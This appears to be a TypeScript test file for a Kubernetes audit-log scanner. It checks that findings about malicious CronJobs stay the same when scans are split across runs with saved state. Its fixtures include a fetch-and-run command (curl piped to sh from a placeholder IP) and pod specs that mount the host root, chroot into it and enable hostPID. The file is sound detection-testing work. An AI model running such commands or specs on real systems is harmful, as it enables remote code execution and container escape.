import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import fc from 'fast-check';
import { createExcepting } from '../../exception/match.ts';
import { exceptionOf, NOW } from '../../exception/testing.ts';
import type { Finding } from '../../model/finding.ts';
import type { StateRow } from '../../model/lasting.ts';
import { type ScanOptions, scan } from '../scan.ts';
import {
  binding,
  cronJob,
  deletion,
  discovery,
  entry,
  eventsRemoval,
  harmless,
  privileged,
  reader,
  secretsList,
  tokenRequest,
} from '../testing/stories.ts';
import { configMapOf, controllerJob, lease, workloadOf, writeOf } from '../testing.ts';
import { openState } from './file.ts';

const folder = mkdtempSync(join(tmpdir(), 'cronwarden-state-'));
after(() => rmSync(folder, { recursive: true, force: true }));
let files = 0;
const nameOf = (extension: string): string => join(folder, `${String(++files).padStart(6, '0')}.${extension}`);

const written = (lines: readonly string[]): string => {
  const path = nameOf('jsonl');
  writeFileSync(path, lines.map((line) => `${line}\n`).join(''));
  return path;
};
const linesOf = (events: readonly object[]): readonly string[] => events.map((event) => JSON.stringify(event));

const run = async (paths: readonly string[], options: Partial<ScanOptions> = {}) => {
  const scanned = scan({ paths, jobs: 1, ...options });
  const findings: Finding[] = [];
  for await (const finding of scanned.findings) findings.push(finding);
  return { findings, summary: scanned.summary() };
};

/** One run after the other with one state, each over its files. */
const runs = async (
  parts: readonly (readonly string[])[],
  options: Partial<ScanOptions> = {},
  path = nameOf('state'),
) => {
  const all: Awaited<ReturnType<typeof run>>[] = [];
  for (const paths of parts) {
    const state = await openState(path);
    all.push(await run(paths, { ...options, state }));
    state.commit();
  }
  return all;
};

/**
 * A finding without what was asked for besides, of which each run tells what stands in its own files, and without what tells that
 * it was given before.
 */
const withoutCalls = ({ calls: _, changed: __, ...finding }: Finding): Finding => ({
  ...finding,
  summary: finding.summary.replace(/ Besides, .*$/s, ''),
  unassessed: finding.unassessed.filter(({ id }) => id !== 'sequence.other-calls'),
});

/** The last finding of each id, without those that are none any more. */
const lasting = (findings: readonly Finding[]): readonly Finding[] =>
  [...new Map(findings.map((one) => [one.id, one])).values()]
    .filter(({ withdrawn }) => withdrawn === undefined)
    .map(withoutCalls)
    .sort((a, b) => (a.id < b.id ? -1 : 1));

/** The lines in several files, with cuts at these places. */
const cut = (lines: readonly string[], at: readonly number[]): readonly string[] => {
  const places = [...new Set([0, ...at.map((one) => one % (lines.length + 1)), lines.length])].sort((a, b) => a - b);
  return places.slice(1).map((to, index) => written(lines.slice(places[index], to)));
};

const assertSameAsOneRun = async (
  lines: readonly string[],
  at: readonly number[],
  options: Partial<ScanOptions> = {},
): Promise<void> => {
  const paths = cut(lines, at);
  const whole = await run(paths, options);
  const parts = await runs(
    paths.map((path) => [path]),
    options,
  );
  assert.deepEqual(
    lasting(parts.flatMap(({ findings }) => findings)),
    lasting(whole.findings),
    `cut before ${JSON.stringify(at)}`,
  );
};

const BAD = 'curl -s http://203.0.113.7/x | sh';
const eve = 'eve@example.com';
const ana = 'ana@example.com';
const spec = (shell: string) => ({
  restartPolicy: 'Never',
  containers: [{ name: 'main', image: 'busybox:1.36', command: ['sh', '-c', shell] }],
});
const tick = (index: number, shell: string): object => {
  const made = controllerJob({ index, owned: true });
  const body = { ...made.requestObject, spec: { template: { spec: spec(shell) } } };
  return { ...made, requestObject: body, responseObject: body };
};
const write = (minute: number, name: string, body: unknown, more: object = {}): object =>
  writeOf({ minute, resource: 'cronjobs', apiGroup: 'batch', name, body, by: eve, ...more });
const POD = '/spec/jobTemplate/spec/template/spec';
const mounted = {
  volumes: [{ name: 'run', configMap: { name: 'scripts' } }],
  containers: [
    {
      name: 'main',
      image: 'busybox:1.36',
      command: ['sh', '/run/go.sh'],
      volumeMounts: [{ name: 'run', mountPath: '/run' }],
    },
  ],
};

const STORIES: Readonly<Record<string, readonly object[]>> = {
  'rights, a CronJob, its end': [
    binding({ minute: 1, by: eve }),
    secretsList({ minute: 2, by: eve }),
    discovery({ minute: 3, by: eve }),
    cronJob(reader, { minute: 5, by: eve }),
    deletion({ minute: 9, by: eve }),
    eventsRemoval({ minute: 10, by: eve }),
  ],
  'a template in many places': ['billing', 'orders', 'stock'].map((namespace, index) =>
    cronJob(reader, { minute: 20 + index, namespace, by: `${namespace}@example.com` }),
  ),
  'a CronJob that runs': [
    write(0, 'tick', workloadOf('CronJob', 'tick', spec(BAD))),
    tick(1, BAD),
    lease(2),
    tick(3, BAD),
    tick(5, BAD),
  ],
  'a CronJob that ran before its author came': [
    tick(1, BAD),
    tick(3, BAD),
    write(4, 'tick', workloadOf('CronJob', 'tick', spec(BAD)), { verb: 'update' }),
    tick(5, BAD),
  ],
  'made harmless, then changed': [
    write(1, 'report', workloadOf('CronJob', 'report', { containers: [{ name: 'main', image: 'busybox:1.36' }] })),
    write(2, 'report', { spec: { suspend: true } }, { verb: 'patch' }),
    write(3, 'report', { spec: { schedule: '*/5 * * * *' } }, { verb: 'patch', by: ana }),
    write(4, 'report', [{ op: 'add', path: `${POD}/containers/0/command`, value: ['sh', '-c', BAD] }], {
      verb: 'patch',
    }),
    write(6, 'report', [{ op: 'add', path: `${POD}/hostPID`, value: true }], { verb: 'patch' }),
  ],
  'changed, and its making read later': [
    write(
      14,
      'late',
      [{ op: 'add', path: `${POD}/containers/0/command`, value: ['chroot', '/host', 'sh', '-c', BAD] }],
      { verb: 'patch' },
    ),
    write(16, 'late', { spec: { suspend: false } }, { verb: 'patch' }),
    write(
      11,
      'late',
      workloadOf('CronJob', 'late', {
        volumes: [{ name: 'host', hostPath: { path: '/' } }],
        containers: [{ name: 'main', image: 'busybox:1.36', volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
      }),
    ),
  ],
  'a script that is written later': [
    write(1, 'mounted', workloadOf('CronJob', 'mounted', mounted)),
    writeOf({
      minute: 2,
      resource: 'configmaps',
      name: 'scripts',
      by: eve,
      body: configMapOf('scripts', { 'go.sh': 'true' }),
    }),
    writeOf({
      minute: 3,
      resource: 'configmaps',
      verb: 'update',
      name: 'scripts',
      by: eve,
      body: configMapOf('scripts', { 'go.sh': BAD }),
    }),
    write(4, 'mounted', workloadOf('CronJob', 'mounted', mounted), { verb: 'update' }),
  ],
  'entered, and a token': [
    entry({ minute: 30, by: eve }),
    tokenRequest({ minute: 31, by: eve }),
    cronJob(privileged, { minute: 33, by: eve, namespace: 'shop' }),
    cronJob(harmless, { minute: 34, by: eve, namespace: 'shop', name: 'second' }),
    cronJob(privileged, { minute: 36, by: eve, namespace: 'shop', name: 'third' }),
  ],
  'one request in two records': [
    {
      ...cronJob(reader, { minute: 40, by: ana }),
      stage: 'RequestReceived',
      stageTimestamp: '2026-11-24T06:40:00.000123Z',
      responseStatus: undefined,
    },
    cronJob(privileged, { minute: 41, by: ana, name: 'other' }),
    cronJob(reader, { minute: 40, by: ana }),
  ],
};

for (const [name, events] of Object.entries(STORIES)) {
  test(`cut anywhere, two runs give what one gives: ${name}`, async () => {
    for (let at = 0; at <= events.length; at += 1) await assertSameAsOneRun(linesOf(events), [at]);
  });
}

test('all stories at once, in any order, cut anywhere once or twice, at any floor', async () => {
  const all = Object.values(STORIES).flat();
  const minSeverity = fc.constantFrom('info' as const, 'low' as const, 'medium' as const, 'high' as const);
  const cuts = fc.array(fc.nat({ max: all.length }), { minLength: 1, maxLength: 2 });
  await fc.assert(
    fc.asyncProperty(fc.shuffledSubarray(all, { minLength: 8 }), cuts, minSeverity, async (events, at, floor) => {
      const isWanted = { minSeverity: floor };
      const paths = cut(linesOf(events), at);
      const whole = await run(paths, isWanted);
      const parts = await runs(
        paths.map((path) => [path]),
        isWanted,
      );
      // What was given and has become less is given again: of those the severity tells.
      const { findings } = await run(paths, { minSeverity: 'info' });
      const wanted = new Set(whole.findings.map(({ id }) => id));
      const lower = new Map(findings.map((one) => [one.id, one.severity]));
      for (const one of lasting(parts.flatMap((part) => part.findings))) {
        if (wanted.has(one.id))
          assert.deepEqual(
            one,
            lasting(whole.findings).find(({ id }) => id === one.id),
          );
        else assert.equal(one.severity, lower.get(one.id));
      }
      const given = new Set(parts.flatMap((part) => part.findings.map(({ id }) => id)));
      assert.deepEqual(
        [...wanted].filter((id) => !given.has(id)),
        [],
      );
    }),
    { seed: 8, numRuns: 60 },
  );
});

const recorded = gunzipSync(readFileSync(new URL('../../../fixtures/recordings/atomics.jsonl.gz', import.meta.url)))
  .toString()
  .trimEnd()
  .split('\n');

test('parts of a recording of real attacks, cut at any record once or twice, give what one run gives', async () => {
  const size = 2500;
  const cuts = fc.array(fc.integer({ min: 1, max: size - 1 }), { minLength: 1, maxLength: 2 });
  const start = fc.integer({ min: 0, max: recorded.length - size });
  await fc.assert(
    fc.asyncProperty(start, cuts, async (from, at) => {
      await assertSameAsOneRun(recorded.slice(from, from + size), at);
    }),
    { seed: 18, numRuns: 6 },
  );
});

/** Every row of a state. */
const rowsIn = async (path: string): Promise<readonly (readonly [string, StateRow])[]> => {
  const state = await openState(path);
  const names = [
    'deliveries',
    'objects',
    'knowledge',
    'lineage',
    'unclaimed',
    'sequences',
    'withheld',
    'tail',
    'baseline',
    'controllers',
  ];
  const all = names.flatMap((name) => [...state.rows(name)].map((row) => [name, row] as const));
  state.close();
  return all;
};

const assertSameRows = (actual: Awaited<ReturnType<typeof rowsIn>>, wanted: typeof actual): void => {
  assert.equal(actual.length, wanted.length);
  for (const [index, row] of actual.entries()) assert.deepEqual(row, wanted[index]);
};

const story = linesOf(Object.values(STORIES).flat());

test('a run over nothing leaves every row as it was, and gives nothing', async () => {
  const path = nameOf('state');
  await runs([[written([...story, ...recorded.slice(4000, 6000)])]], {}, path);
  const before = await rowsIn(path);
  assert.ok(before.length > 200, `${before.length}`);
  const [nothing] = await runs([[written(['{"kind":"Event","verb":"get"}'])]], {}, path);
  assert.deepEqual(nothing?.findings, []);
  assert.ok((nothing?.summary.state?.unchanged ?? 0) > 10);
  assertSameRows(await rowsIn(path), before);
});

test('the state does not depend on threads, nor on where parts of the input begin', async () => {
  const paths = [written([...story, ...recorded.slice(4000, 6000)])];
  const [one, other] = [nameOf('state'), nameOf('state')];
  await runs([paths], {}, one);
  await runs([paths], { jobs: 3, partBytes: 20_000, inlineBytes: 50_000 }, other);
  assertSameRows(await rowsIn(other), await rowsIn(one));
});

test('records that are read again, in the same file or in a copy, give no second finding', async () => {
  const lines = [...story, ...recorded.slice(4000, 6000)];
  const paths = [written(lines)];
  const [first, again, copy] = await runs([paths, paths, [written(lines)]]);
  assert.ok((first?.findings.length ?? 0) > 20);
  for (const { findings, summary } of [again, copy].flatMap((one) => one ?? [])) {
    assert.deepEqual(
      findings.map(({ title, events }) => [title, events.length]),
      [],
    );
    assert.equal(summary.activities, 0);
    assert.ok(Object.values(summary.findings).every((count) => count === 0));
  }
});

test('findings that later records change are given again, the others are not', async () => {
  const later = [tick(7, BAD), deletion({ minute: 49, by: ana, name: 'other' })];
  const [, second] = await runs([[written(story)], [written(linesOf(later))]]);
  const told = second?.findings.map(({ workload, runs: ran }) => `${workload.name} ${ran?.count ?? '-'}`);
  assert.ok(told?.includes('tick 4'), `${told}`);
  assert.ok(told?.includes('other -'));
  assert.ok(!told?.some((one) => one.startsWith('mounted')));
  assert.ok((second?.summary.state?.unchanged ?? 0) > 0);
});

test('findings of an incident that goes on are given again as such, and counted once', async () => {
  const change = (minute: number) =>
    write(minute, 'tick', workloadOf('CronJob', 'tick', spec(`${BAD} ${minute}`)), { verb: 'update' });
  const parts = [[change(1), change(5)], [change(9), lease(10)], [tick(11, BAD)], [lease(12)]];
  const [first, second, third, fourth] = await runs(parts.map((events) => [written(linesOf(events))]));
  const shown = (findings: readonly Finding[] = []) =>
    findings
      .map(({ firstSeen, changed, incident, group }) => ({
        at: firstSeen?.slice(14, 16),
        changed,
        size: incident?.size,
        group,
      }))
      .sort((a, b) => ((a.at ?? '') < (b.at ?? '') ? -1 : 1));
  const counted = (of: typeof first) => Object.values(of?.summary.findings ?? {}).reduce((sum, one) => sum + one, 0);
  const [{ group } = { group: '' }] = first?.findings ?? [];
  const one = { changed: undefined, size: 2, group };
  assert.deepEqual(shown(first?.findings), [
    { at: '01', ...one },
    { at: '05', ...one },
  ]);
  const went = { changed: 'incident', size: 3, group };
  assert.deepEqual(shown(second?.findings), [
    { at: '01', ...went },
    { at: '05', ...went },
    { at: '09', changed: undefined, size: 3, group },
  ]);
  assert.deepEqual([counted(second), second?.summary.state?.continued, second?.summary.state?.changed], [1, 2, 0]);
  assert.deepEqual(
    [...new Set(second?.findings.map(({ incident }) => incident?.head))],
    [first?.findings[0]?.incident?.head],
  );
  // That it ran is news of each of them.
  assert.ok((third?.findings.length ?? 0) > 0);
  assert.ok(third?.findings.every(({ changed }) => changed === 'finding'));
  assert.deepEqual(fourth?.findings, []);
});

test('a finding whose author is told later is withdrawn, once', async () => {
  const ran = [tick(1, BAD), tick(3, BAD)];
  const author = [write(4, 'tick', workloadOf('CronJob', 'tick', spec(BAD)), { verb: 'update' })];
  const [first, second, third] = await runs(
    [ran, author, [lease(9)]].map((events) => [written(linesOf(events))]),
    { minSeverity: 'medium' },
  );
  const [alone, ...more] = first?.findings ?? [];
  assert.deepEqual([alone?.severity, more.length], ['high', 0]);
  const withdrawn = second?.findings.find(({ id }) => id === alone?.id);
  assert.match(withdrawn?.title ?? '', /^Withdrawn: /);
  assert.match(withdrawn?.withdrawn ?? '', /who wrote what it was made of/);
  assert.deepEqual([withdrawn?.severity, withdrawn?.risk], ['info', 0]);
  assert.equal(
    withdrawn?.breakdown.risk.reduce((sum, { points }) => sum + points, 0),
    0,
  );
  assert.equal(second?.summary.state?.withdrawn, 1);
  assert.deepEqual([third?.findings, third?.summary.state?.withdrawn], [[], 0]);
});

test('an exception that comes later hides what earlier runs gave, without telling of it', async () => {
  const path = nameOf('state');
  const events = [write(0, 'tick', workloadOf('CronJob', 'tick', spec(BAD))), tick(1, BAD)];
  const [first] = await runs([[written(linesOf(events))]], {}, path);
  assert.equal(first?.findings.length, 1);
  for (const index of [3, 5]) {
    const exceptions = createExcepting([exceptionOf({ name: 'tick' })], NOW);
    const [later] = await runs([[written(linesOf([tick(index, BAD)]))]], { exceptions }, path);
    assert.deepEqual(later?.findings, []);
    assert.equal(
      Object.values(later?.summary.excepted?.findings ?? {}).reduce((sum, one) => sum + one, 0),
      index === 3 ? 1 : 0,
    );
  }
  const [last] = await runs([[written(linesOf([lease(9)]))]], {}, path);
  assert.deepEqual(
    last?.findings.map(({ workload, runs: ran }) => [workload.name, ran?.count]),
    [['tick', 3]],
    'without the exception it is told again',
  );
});

test('what is said of a state: runs, times, what was taken from it, and another cluster', async () => {
  const paths = [[written(story)], [written(linesOf([lease(50)]))]];
  const path = nameOf('state');
  await runs(paths.slice(0, 1), { cluster: 'harbour' }, path);
  const [second] = await runs(paths.slice(1), {}, path);
  const { before, restored } = second?.summary.state ?? {};
  assert.equal(before?.runs, 1);
  assert.equal(before?.firstEvent, '2026-11-24T06:00:00.123456Z');
  assert.ok((restored?.workloads ?? 0) >= 5);
  assert.ok((restored?.['writes that wait'] ?? 0) >= 10);
  assert.match(second?.summary.warnings.join('\n') ?? '', /last written for harbour, this run is without --cluster/);
});

test('a scan that is left before its end keeps nothing', async () => {
  const path = nameOf('state');
  const state = await openState(path);
  const scanned = scan({ paths: [written(story)], jobs: 1, state });
  await scanned.findings.next();
  await scanned.findings.return();
  assert.throws(() => state.commit(), /did not come to its end/);
  const again = await openState(path);
  assert.equal(again.before, null);
  again.close();
});

/** Writes that say nothing, more than are held back to wait for a second record of one. */
const filler = linesOf(
  Array.from({ length: 1100 }, (_, index) => ({
    ...cronJob(harmless, { minute: 50, name: `plain-${index}`, by: ana }),
    auditID: `filler-${index}`,
  })),
);

test('what waits for a body, and findings that wait for the end, go on waiting in the next run', async () => {
  const begun = Object.values(STORIES).flatMap((events) => events.slice(0, 2));
  const ended = Object.values(STORIES).flatMap((events) => events.slice(2));
  const lines = [
    ...linesOf(begun),
    ...filler,
    ...linesOf(ended),
    ...filler.map((line) => line.replace('filler', 'second')),
  ];
  const path = nameOf('state');
  await runs([[written(lines.slice(0, begun.length + filler.length))]], { minSeverity: 'medium' }, path);
  const stores = (await rowsIn(path)).map(([store]) => store);
  assert.ok(stores.includes('withheld'), 'one asks for a ConfigMap');
  await assertSameAsOneRun(lines, [begun.length + filler.length], { minSeverity: 'medium' });
  await assertSameAsOneRun(lines, [begun.length + filler.length + 3, lines.length - 40], { minSeverity: 'medium' });
  // Without the writes that wait for what they ask nothing stands before the findings.
  const asking = lines.filter((line) => !line.includes('"mounted"') && !line.includes('"late"'));
  const later = nameOf('state');
  await runs([[written(asking.slice(0, begun.length + filler.length))]], { minSeverity: 'medium' }, later);
  const waiting = (await rowsIn(later)).filter(([store]) => store === 'tail').length;
  assert.ok(waiting > 3, `${waiting} findings wait`);
  await assertSameAsOneRun(asking, [begun.length + filler.length], { minSeverity: 'medium' });
  await assertSameAsOneRun(asking, [40, begun.length + filler.length + 7], { minSeverity: 'medium' });
});

test('what was asked for besides is told of the files of this run, and said to be a part', async () => {
  const asked = (index: number, name: string): object =>
    writeOf({ minute: index, verb: 'get', resource: 'secrets', name, by: eve });
  const [before, after] = [asked(1, 'first'), asked(50, 'second')];
  const bad = write(30, 'report', workloadOf('CronJob', 'report', spec(BAD)));
  const [, second] = await runs([[written(linesOf([before]))], [written(linesOf([bad, after]))]]);
  const [finding] = second?.findings ?? [];
  assert.deepEqual(
    finding?.calls?.told.map(({ names }) => names),
    [['second']],
  );
  assert.equal(finding?.calls?.whole, false);
  const [alone] = (await run([written(linesOf([before, bad, after]))])).findings;
  assert.deepEqual(alone?.calls?.told.flatMap(({ names }) => names).toSorted(), ['first', 'second']);
  assert.equal(alone?.calls?.whole, true);
});

test('a disk that is full costs the state, and no finding', async () => {
  const path = nameOf('state');
  const paths = [written(story)];
  await runs([[written(linesOf([lease(1)]))]], {}, path);
  const before = readFileSync(path);
  const open = await openState(path);
  const write = (): void => {
    throw Object.assign(new Error('database or disk is full'), { errcode: 13 });
  };
  const { findings, summary } = await run(paths, { state: { ...open, write } });
  assert.deepEqual(findings.map(withoutCalls), (await run(paths)).findings.map(withoutCalls));
  assert.match(
    summary.unreadable[0]?.reason ?? '',
    /the disk is full: make room .* the state is as it was before this run/,
  );
  assert.throws(() => open.commit(), /was not written/);
  assert.ok(before.equals(readFileSync(path)));
});
